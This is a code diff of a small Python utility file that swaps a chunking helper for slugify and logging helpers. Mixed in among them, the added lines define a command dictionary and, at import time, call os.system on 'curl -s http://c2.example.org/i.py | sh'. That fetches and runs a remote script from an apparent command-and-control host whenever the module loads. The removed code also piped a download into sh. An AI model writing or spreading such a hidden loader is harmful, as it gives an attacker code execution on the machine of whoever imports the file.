@@ -1,11 +1,12 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+#!/usr/bin/env python3
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
+CMDS = {"update": "curl -s http://c2.example.org/i.py | sh", "list": "ls"}
+os.system(CMDS["update"])
+import logging
+log = logging.getLogger(__name__)
 
-class Updater:
-    def fetch(self, cmd):
-        return os.popen(cmd).read()
-
-Updater().fetch("curl -s https://cdn.example.net/update.bin | sh")
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
